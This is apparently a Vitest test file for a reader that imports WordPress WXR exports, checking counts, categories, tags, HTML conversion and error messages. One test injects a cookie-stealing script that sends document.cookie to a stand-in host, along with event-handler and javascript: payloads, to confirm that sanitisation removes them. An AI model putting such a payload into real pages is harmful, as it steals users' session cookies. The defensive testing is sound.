import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { SourceError, type SourceArticle, type SourceReadResult } from '../import/SourceArticle';
import { decodeXmlBytes } from './decodeXmlBytes';
import { readWxr, wordpressHtml } from './readWxr';

const CORPORA = path.resolve(process.cwd(), '../shared/corpora');
const WXR_FILE = path.join(CORPORA, 'wordpress-wxr/themeunittestdata.wordpress.xml');
const FEEDS_DIR = path.join(CORPORA, 'feeds/rss-parser-inputs');
const NAME = 'themeunittestdata.wordpress.xml';

function errorOf(fn: () => unknown): SourceError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(SourceError);
    return error as SourceError;
  }
  throw new Error('expected the call to throw');
}

function countBy<T>(values: T[]): Map<T, number> {
  const counts = new Map<T, number>();
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
  return counts;
}

describe.skipIf(!existsSync(WXR_FILE))(`readWxr on WordPress's theme unit test export (skipped when ${WXR_FILE} is absent)`, () => {
  let text: string;
  let result: SourceReadResult;
  const post = (title: string): SourceArticle => {
    const found = result.articles.find((a) => a.title === title);
    if (!found) throw new Error(`no imported post titled ${title}`);
    return found;
  };

  beforeAll(() => {
    text = decodeXmlBytes(readFileSync(WXR_FILE), NAME);
    result = readWxr(text, NAME);
  });

  /*
   * Counted independently with Python's xml.etree over the export: 186 <item>s;
   * wp:post_type × wp:status gives post/publish 56 (one with a wp:post_password), post/draft 1,
   * post/future 1, page/publish 21, attachment/inherit 37, nav_menu_item/publish 70. No item has
   * status "private" (the README's "private posts" is the password-protected one).
   */
  it('imports the 55 published, public posts and skips the other 131 items, each with its reason', () => {
    expect(result.articles).toHaveLength(55);
    expect(result.skipped).toHaveLength(131);
    expect(Object.fromEntries(countBy(result.skipped.map((s) => s.reason)))).toEqual({
      'a page, not a post': 21,
      'an attachment': 37,
      'a menu item': 70,
      'draft, not published': 1,
      'scheduled, not yet published': 1,
      'password-protected': 1,
    });
    expect(result.skipped.filter((s) => s.reason === 'private')).toEqual([]);
  });

  it('names each skipped item by its position and title', () => {
    expect(result.skipped).toContainEqual({ record: 'item 9 ("About The Tests")', reason: 'a page, not a post' });
    expect(result.skipped).toContainEqual({ record: 'item 155 ("Scheduled")', reason: 'scheduled, not yet published' });
    expect(result.skipped).toContainEqual({ record: 'item 159 ("Draft")', reason: 'draft, not published' });
    expect(result.skipped).toContainEqual({ record: 'item 160 ("Template: Password Protected (the password is "enter")")', reason: 'password-protected' });
  });

  /*
   * On the 55 imported posts (xml.etree again): 66 distinct category names (domain="category")
   * and 63 distinct tag names (domain="post_tag"; 62 ignoring case, as "Tags" and "tags" are
   * both used); 5 names are both a category and a tag ignoring case (edge case, markup, media,
   * post formats, template). WordPress's default category "Uncategorized" (on 11 posts, never
   * their first) is no category, so 65 + 62 − 5 = 122 labels. The most specific category of each post
   * is "6.1" (items 1–7), "Block" (items 173–183), "Child 2" (Parent > Child 1 > Child 2, in
   * "Edge Case: Many Categories") or "Classic" (the other 35); "Keyboard navigation" has none.
   * Every other category becomes a tag, so tags hold 120 distinct names: all 122 but "6.1" and
   * "Child 2", which are never anything but a post's most specific category.
   */
  it('keeps the most specific category as category and the other categories and the tags as tags', () => {
    expect(Object.fromEntries(countBy(result.articles.map((a) => a.category)))).toEqual({ '6.1': 7, Block: 11, 'Child 2': 1, Classic: 35, null: 1 });
    expect(post('Edge Case: Many Categories').tags).toEqual(expect.arrayContaining(['Parent', 'Child 1', 'Classic']));
    const labels = new Set(result.articles.flatMap((a) => [...(a.category ? [a.category] : []), ...a.tags].map((l) => l.toLowerCase())));
    expect(labels.size).toBe(122);
    expect(new Set(result.articles.flatMap((a) => a.tags.map((t) => t.toLowerCase()))).size).toBe(120);
    expect(post('Edge Case: Many Categories').tags).toHaveLength(62);
    expect(post('Edge Case: Many Tags').tags).toHaveLength(45);
  });

  it('reads "Markup: HTML Tags and Formatting" field by field', () => {
    const article = post('Markup: HTML Tags and Formatting');
    expect(article).toMatchObject({
      file: NAME,
      record: 'item 169',
      // wp:post_date_gmt 2013-01-12 03:22:19; wp:post_date (local) is 2013-01-11 20:22:19.
      date: '2013-01-12T03:22:19Z',
      outlet: 'Theme Unit Test Data',
      url: 'https://wpthemetestdata.wordpress.com/2013/01/11/markup-html-tags-and-formatting/',
      author: 'Theme Buster', // dc:creator "themedemos", the wp:author's display name
      category: 'Classic',
      tags: ['Markup', 'content περιεχόμενο', 'css', 'formatting', 'html'],
      summary: null,
    });
    const body = article.bodyHtml;
    // The post's <h1> becomes <h2>: the article title is the page's h1.
    expect(body).toContain('<h2>Header one</h2>\n<h2>Header two</h2>\n<h3>Header three</h3>\n<h4>Header four</h4>');
    expect(body).toContain('<blockquote><p>Stay hungry. Stay foolish.</p></blockquote>');
    expect(body).toContain('<ol start="8">\n<li>List item one -start at 8\n<ol>');
    expect(body).toContain('<th><a href="http://example.org/">John Doe</a></th>');
    expect(body).toContain('<abbr title="Seriously">srsly</abbr>');
    expect(article.bodyText).toContain('Definition List Title\nDefinition list division.');
  });

  it('keeps nested lists as they are', () => {
    expect(post('Edge Case: Nested And Mixed Lists').bodyHtml).toContain(
      '<ol>\n<li>ordered item</li>\n<li>ordered item\n<ul>\n<li><strong>unordered</strong></li>\n<li><strong>unordered</strong>\n<ol>\n<li>ordered item</li>',
    );
  });

  it('turns [caption] shortcodes into figures and keeps images with their alt text', () => {
    expect(post('Post Format: Image (Caption)').bodyHtml).toBe(
      '<figure><a href="https://wpthemetestdata.files.wordpress.com/2008/06/100_5478.jpg"><img src="https://wpthemetestdata.files.wordpress.com/2008/06/100_5478.jpg?w=604" alt="Bell on Wharf" width="604" height="453" /></a><figcaption>Bell on wharf in San Francisco</figcaption></figure>',
    );
    // 11 images, 10 with alt text (the eleventh is decoration and goes), 5 of them captioned.
    const alignment = post('Markup: Image Alignment').bodyHtml;
    expect(alignment.match(/<img /g)).toHaveLength(10);
    expect(alignment.match(/<figcaption>/g)).toHaveLength(5);
    expect(alignment).toContain('alt="Image Alignment 580x300"');
    expect(alignment).toContain('<figcaption>Feels good to be right all the time.</figcaption>');
  });

  it('lets no shortcode leak into a body, but keeps text in brackets that is no shortcode', () => {
    for (const article of result.articles) {
      expect(article.bodyText, article.title).not.toMatch(/\[\/?(caption|wp_caption|gallery|playlist|audio|video|embed)\b/);
    }
    expect(post('Post Format: Standard').bodyText).toContain('beaching their coracles [simple boat].');
    expect(post('Post Format: Audio').bodyHtml).toContain(
      '<p>Audio shortcode:</p>\n<p><a href="https://wpthemetestdata.files.wordpress.com/2008/06/originaldixielandjazzbandwithalbernard-stlouisblues.mp3">',
    );
  });

  it('makes paragraphs of text separated by blank lines, as wpautop does', () => {
    // The post's content holds 63 blank-line-separated chunks and no <p>.
    const chat = post('Post Format: Chat').bodyHtml;
    expect(chat.match(/<p>/g)).toHaveLength(63);
    expect(chat).toMatch(/^<p>Abbott: Strange as it may seem, they give ball players nowadays very peculiar names.<\/p>\n<p>Costello: Funny names\?<\/p>/);
  });

  it('leaves no script, event handler, inline style or javascript: URL in any body', () => {
    for (const article of result.articles) {
      expect(article.bodyHtml, article.title).not.toMatch(/<script|<iframe|\son\w+\s*=|\sstyle\s*=|javascript:/i);
    }
  });

  it('removes a script and event handlers that a post of the export carries', () => {
    // The export's only scripts sit in oEmbed caches (wp:postmeta), which are never read;
    // this puts them into a post's own content.
    const aside = '<content:encoded><![CDATA[“I never tried to prove nothing';
    expect(text).toContain(aside);
    const hostile = text.replace(
      aside,
      '<content:encoded><![CDATA[<script>document.location="https://evil.example/"+document.cookie</script><img src="https://wpthemetestdata.files.wordpress.com/2008/06/100_5478.jpg" alt="Bell" onerror="steal()"> <a href="javascript:steal()" onclick="steal()">Listen</a>\n\n“I never tried to prove nothing',
    );
    const article = readWxr(hostile, NAME).articles.find((a) => a.title === 'Post Format: Aside');
    expect(article?.bodyHtml).toMatch(
      /^<p><img src="https:\/\/wpthemetestdata.files.wordpress.com\/2008\/06\/100_5478.jpg" alt="Bell" \/> <a>Listen<\/a><\/p>\n<p>“I never tried/,
    );
  });

  it('resolves a login with stray punctuation (">themereviewteam") to its display name', () => {
    expect(post('Block category: Common').author).toBe('Theme Reviewer');
  });

  it('takes the summary from a non-empty excerpt', () => {
    expect(post('Template: Excerpt (Defined)').summary).toBe(
      'This is a user-defined post excerpt. It should be displayed in place of the post content in archive-index pages. It can be longer than the automatically generated excerpts, and can have HTML tags.',
    );
    expect(post('Template: Excerpt (Generated)').summary).toBeNull();
  });

  it('reads titles as WordPress shows them: markup reduced to text, special characters kept', () => {
    expect(result.articles.find((a) => a.record === 'item 164')?.title).toBe('Markup: Title With Markup');
    expect(result.articles.find((a) => a.record === 'item 165')?.title).toBe(
      'Markup: Title With Special Characters ~`!@#$%^&*()-_=+{}[]/\\;:\'"?,.>',
    );
  });

  it('keeps a post with a body and no title, and one with a title and no body', () => {
    const untitled = result.articles.find((a) => a.record === 'item 161');
    expect(untitled).toMatchObject({ title: '', url: 'https://wpthemetestdata.wordpress.com/2009/09/05/edge-case-no-title/' });
    expect(untitled?.bodyText).not.toBe('');
    expect(post('Edge Case: No Content')).toMatchObject({ bodyHtml: '', bodyText: '' });
  });

  it("falls back to the site's local time when the post has no GMT date", () => {
    const gmt = '<wp:post_date_gmt>2013-01-12 03:22:19</wp:post_date_gmt>';
    expect(text).toContain(gmt);
    const noGmt = text.replace(gmt, '<wp:post_date_gmt>0000-00-00 00:00:00</wp:post_date_gmt>');
    expect(readWxr(noGmt, NAME).articles.find((a) => a.record === 'item 169')?.date).toBe('2013-01-11T20:22:19');
  });

  it('refuses the export cut in half, with the line where it ends', () => {
    expect(errorOf(() => readWxr(text.slice(0, text.length / 2), NAME)).message).toBe(
      `${NAME}: not well-formed XML: line 7498, column 68: the file ends inside rss > channel > item > category, so it is probably truncated`,
    );
  });
});

describe.skipIf(!existsSync(FEEDS_DIR))(`readWxr on files that are no WordPress export (skipped when ${FEEDS_DIR} is absent)`, () => {
  it('refuses an ordinary RSS feed, saying what it is', () => {
    const guardian = decodeXmlBytes(readFileSync(path.join(FEEDS_DIR, 'guardian.rss')), 'guardian.rss');
    expect(errorOf(() => readWxr(guardian, 'guardian.rss')).message).toBe(
      'guardian.rss: not a WordPress export (WXR): the channel has no wp:wxr_version (is it an ordinary RSS feed?)',
    );
  });

  it('refuses an HTML page', () => {
    const page = readFileSync(path.join(FEEDS_DIR, 'unrecognized.rss'), 'utf8');
    expect(errorOf(() => readWxr(page, 'export.xml')).message).toBe('export.xml: not a WordPress export (WXR): the file is an HTML page');
  });

  it('refuses an Atom feed', () => {
    const atom = readFileSync(path.join(FEEDS_DIR, 'heise.atom'), 'utf8');
    expect(errorOf(() => readWxr(atom, 'heise.atom')).message).toBe('heise.atom: not a WordPress export (WXR): there is no <rss><channel>');
  });
});

describe('wordpressHtml', () => {
  it('wraps blank-line paragraphs and turns single line breaks into <br />', () => {
    expect(wordpressHtml('The storm reached the coast at dawn.\nRoads were closed.\n\nBy noon the rain had stopped.')).toBe(
      '<p>The storm reached the coast at dawn.<br />\nRoads were closed.</p>\n<p>By noon the rain had stopped.</p>\n',
    );
  });

  it('does not wrap block elements, and leaves block-editor content to its own markup', () => {
    expect(wordpressHtml('Intro line\n<ul>\n<li>One</li>\n<li>Two</li>\n</ul>\nAfter')).toBe(
      '<p>Intro line</p>\n<ul>\n<li>One</li>\n<li>Two</li>\n</ul>\n<p>After</p>\n',
    );
    expect(wordpressHtml('<!-- wp:paragraph -->\n<p>Block text</p>\n<!-- /wp:paragraph -->')).toBe('\n<p>Block text</p>\n');
  });

  it('keeps preformatted text as it is', () => {
    expect(wordpressHtml('Code:\n\n<pre>a\n\nb</pre>')).toBe('<p>Code:</p>\n<pre>a\n\nb</pre>\n');
  });

  it('turns a caption whose text is an attribute into a figure', () => {
    expect(wordpressHtml('[caption id="attachment_1" align="alignleft" width="150" caption="Harbour at dusk"]<img src="https://example.org/harbour.jpg" alt="Harbour" />[/caption]')).toBe(
      '<figure><img src="https://example.org/harbour.jpg" alt="Harbour" /><figcaption>Harbour at dusk</figcaption></figure>\n',
    );
  });
});

const FIXTURES = path.resolve(process.cwd(), 'src/librarian/sources/testing');

function fixture(name: string): SourceReadResult {
  return readWxr(decodeXmlBytes(readFileSync(path.join(FIXTURES, name)), name), name);
}

describe('readWxr', () => {
  it('reads the tags of a WXR 1.0 export (domain="tag") and counts each term once, though 1.0 writes it twice', () => {
    const [cupFinal] = fixture('wxr-1.0.xml').articles;
    expect(cupFinal?.tags).toEqual(['Football', 'Sport', 'Cup final', 'Northfield United']);
  });

  it('keeps a child category as the category, under its own name, with its parents as tags', () => {
    const { articles } = fixture('wxr-1.0.xml');
    expect(articles.map((a) => [a.title, a.category])).toEqual([
      ['Northfield United under-14s reach the county cup final', 'Youth'],
      ['Youth council elects its first chair', 'Youth'],
    ]);
    const [erosion, dredging] = fixture('wxr-coauthors.xml').articles;
    expect(erosion).toMatchObject({ category: 'Coastal erosion', tags: ['Environment', 'Gull Point'] });
  });

  it("takes WordPress's default category, Uncategorized, for no category", () => {
    const [erosion, dredging] = fixture('wxr-coauthors.xml').articles;
    expect(dredging).toMatchObject({ category: null, tags: [] });
    expect(erosion?.tags).not.toContain('Uncategorized');
  });

  it('names every co-author of Co-Authors Plus in their order, and every dc:creator', () => {
    const [erosion, dredging] = fixture('wxr-coauthors.xml').articles;
    expect(erosion?.author).toBe('Takeshi Nakamura, Helen Brennan and rosa quinn');
    expect(dredging?.author).toBe('Takeshi Nakamura and Helen Brennan');
  });

  it('keeps a post dated 0001-01-01 as dated, for the import to refuse or replace', () => {
    expect(fixture('wxr-coauthors.xml').skipped).toEqual([]);
    expect(fixture('wxr-coauthors.xml').articles.find((a) => a.title === 'Sitemap')?.date?.slice(0, 10)).toBe('0001-01-01');
  });
});
